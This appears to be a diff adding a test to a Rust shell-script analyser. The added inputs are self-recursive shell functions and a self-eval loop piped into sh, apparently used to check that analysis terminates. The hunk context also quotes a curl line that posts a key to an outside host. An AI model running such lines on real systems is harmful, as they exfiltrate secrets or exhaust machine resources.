@@ -484,3 +484,10 @@ curl -d "$key" https://x.io/up
     "#]]
     .assert_eq(&said(script));
 }
+
+#[test]
+fn what_prints_itself_ends() {
+    check_marks("f() { echo \"$(f)\"; }\nx=$(f)\nls \"$x\"\n");
+    check_marks("f() { $(f) | $(f) && g; }\ng() { f | g; }\n$(f) | g\n");
+    check_marks("x='eval \"$x\"'\neval \"$x\" | sh\n");
+}
